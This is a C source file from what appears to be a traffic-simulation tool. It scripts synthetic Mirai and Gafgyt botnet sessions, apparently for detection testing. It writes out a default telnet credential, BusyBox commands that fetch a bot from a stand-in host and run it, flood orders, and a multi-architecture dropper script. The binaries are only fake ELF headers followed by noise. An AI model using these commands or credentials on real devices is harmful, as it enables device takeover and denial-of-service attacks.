/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * gen/bot_iot.c - bots of cameras and routers, as the analyses of Mirai (Antonakakis et al., USENIX
 * Security 2017) and Gafgyt describe what they say.
 *
 * The floods that the orders name are pieces of their own (flood.c), since they are what an
 * operator sees first.
 */
#include <stdio.h>
#include <string.h>

#include "gen/bots.h"
#include "gen/catalogue.h"
#include "types.h"

#define MIRAI_KEEPALIVE_S 60
#define BODY_BYTES 42000
#define ELF_HEAD_BYTES 20

/* A prompt and what is typed at it. */
static void typed(struct script *script, const char *prompt, const char *line)
{
	script_text(script, 1, "%s", prompt);
	script_wait(script, 0.2);
	script_text(script, 0, "%s\r\n", line);
}

void mirai_loader(struct schedule *schedule, const struct plan *plan)
{
	static const uint8_t options[] = { 255, 253, 1, 255, 253, 31, 255, 251, 1, 255, 251, 3 };
	struct cast cast = cast_of(schedule, plan);
	struct script *script = cast_script(&cast, 23);
	const char *unknown = "MIRAI: applet not found\r\n# ";

	script_say(script, 1, options, sizeof(options));
	script_join(script);
	script_text(script, 1, "\r\ncamera ");
	script_join(script);
	typed(script, "login: ", "root");
	typed(script, "Password: ", "xc3511");
	typed(script, "\r\nBusyBox v1.16.1 built-in shell (ash)\r\n\r\n# ", "enable");
	typed(script, "-sh: enable: not found\r\n# ", "system");
	typed(script, "-sh: system: not found\r\n# ", "shell");
	typed(script, "-sh: shell: not found\r\n# ", "sh");
	typed(script, "# ", "/bin/busybox MIRAI");
	typed(script, unknown, "/bin/busybox ps; /bin/busybox MIRAI");
	typed(script, unknown, "/bin/busybox cat /proc/mounts; /bin/busybox MIRAI");
	typed(script,
		"rootfs / rootfs rw 0 0\r\ntmpfs /tmp tmpfs rw 0 0\r\nMIRAI: applet not "
		"found\r\n# ",
		"/bin/busybox wget; /bin/busybox tftp; /bin/busybox MIRAI");
	typed(script, "wget: missing argument\r\nMIRAI: applet not found\r\n# ",
		"/bin/busybox wget http://203.0.113.45:80/bins/mirai.arm7 -O - > dvrHelper; "
		"/bin/busybox chmod 777 dvrHelper; /bin/busybox MIRAI");
	script_wait(script, 4);
	typed(script, unknown, "./dvrHelper telnet.arm7; /bin/busybox IHCCE");
	script_text(script, 1, "listening tun0\r\nIHCCE: applet not found\r\n# ");
	cast_play(&cast, script);
}

void mirai_c2(struct schedule *schedule, const struct plan *plan)
{
	/* length, duration, vector 0 (UDP), one target /32, one option: port 80 */
	static const uint8_t order[] = { 0, 18, 0, 0, 0, 20, 0, 1, 203, 0, 113, 99, 32, 1, 7, 2,
		'8', '0' };
	static const uint8_t hello[] = { 0, 0, 0, 1 },
			     id[] = { 12, 't', 'e', 'l', 'n', 'e', 't', '.', 'a', 'r', 'm', 'v',
				     '7' },
			     alive[2] = { 0, 0 };
	struct cast cast = cast_of(schedule, plan);
	unsigned keepalives = (unsigned)(plan->seconds / MIRAI_KEEPALIVE_S);
	struct script *script;

	cast_lookup(&cast);
	script = cast_script(&cast, 23);
	script_say(script, 0, hello, sizeof(hello));
	script_wait(script, 0.1);
	script_say(script, 0, id, sizeof(id));
	for (unsigned i = 0; i < keepalives; i++) {
		script_wait(script, MIRAI_KEEPALIVE_S - 0.3);
		script_say(script, 0, alive, sizeof(alive));
		script_say(script, 1, alive, sizeof(alive));
		if (i == keepalives * 3 / 4) {
			script_wait(script, 5);
			script_say(script, 1, order, sizeof(order));
		}
	}
	script_end(script, TALK_SILENT);
	cast_play(&cast, script);
}

void gafgyt_c2(struct schedule *schedule, const struct plan *plan)
{
	struct cast cast = cast_of(schedule, plan);
	struct script *script = cast_script(&cast, 666);
	unsigned rounds = (unsigned)(plan->seconds / 60);

	script_text(script, 0, "BUILD MIPS\n");
	for (unsigned i = 0; i < rounds; i++) {
		script_wait(script, 55);
		script_text(script, 1, "PING\n");
		script_text(script, 0, "PONG\n");
		if (i == 1) {
			script_wait(script, 2);
			script_text(script, 1, "!* SCANNER ON\n");
		}
		if (i == rounds * 3 / 4) {
			script_wait(script, 3);
			script_text(script, 1, "!* UDP 203.0.113.99 80 30 32 1024 10\n");
		}
	}
	script_end(script, TALK_SILENT);
	cast_play(&cast, script);
}

/* The head of an ELF file of that machine (System V ABI), then noise. */
static void binary_body(uint8_t *out, uint8_t machine, bool is_big, struct prng *prng)
{
	static const uint8_t head[ELF_HEAD_BYTES] = { 0x7f, 'E', 'L', 'F', 1, 1, 1 };

	memcpy(out, head, sizeof(head));
	out[5] = is_big ? 2 : 1;
	out[is_big ? 17 : 16] = 2; /* executable */
	out[is_big ? 19 : 18] = machine;
	for (size_t i = sizeof(head); i < BODY_BYTES; i++)
		out[i] = prng_next(prng) >> 56;
}

void iot_dropper(struct schedule *schedule, const struct plan *plan)
{
	static const struct {
		const char *name;
		uint8_t machine;
		bool is_big;
	} builds[] = { { "x86", 3, false }, { "mips", 8, true }, { "mpsl", 8, false },
		{ "arm", 40, false }, { "arm7", 40, false }, { "ppc", 20, true },
		{ "sh4", 42, false } };
	static uint8_t body[BODY_BYTES];
	struct cast cast = cast_of(schedule, plan);
	char text[HOST_TEXT_MAX], shell[2048], path[64];
	const char *host = cast_host(&cast, text);
	struct web_request request = {
		.method = "GET", .path = "/bins.sh", .host = host, .agent = "Wget"
	};
	struct script *script = cast_script(&cast, 80);
	size_t len = (size_t)snprintf(shell, sizeof(shell), "#!/bin/sh\n");

	for (unsigned i = 0; i < LENGTH_OF(builds); i++)
		len += (size_t)snprintf(shell + len, sizeof(shell) - len,
			"cd /tmp || cd /var/run; wget http://%s/bins/bot.%s; chmod 777 bot.%s; "
			"./bot.%s; rm -rf bot.%s\n",
			host, builds[i].name, builds[i].name, builds[i].name, builds[i].name);
	script_request(script, &request);
	script_answer(script,
		&(struct web_answer){
			.status = 200, .type = "text/x-sh", .body = shell, .body_len = len });
	cast_play(&cast, script);
	for (unsigned i = 0; i < LENGTH_OF(builds); i++) {
		cast.at_ns += NS_PER_S;
		snprintf(path, sizeof(path), "/bins/bot.%s", builds[i].name);
		request.path = path;
		binary_body(body, builds[i].machine, builds[i].is_big, &cast.prng);
		script = cast_script(&cast, 80);
		script_request(script, &request);
		script_answer(
			script, &(struct web_answer){
					.status = 200, .body = body, .body_len = BODY_BYTES });
		cast_play(&cast, script);
	}
}
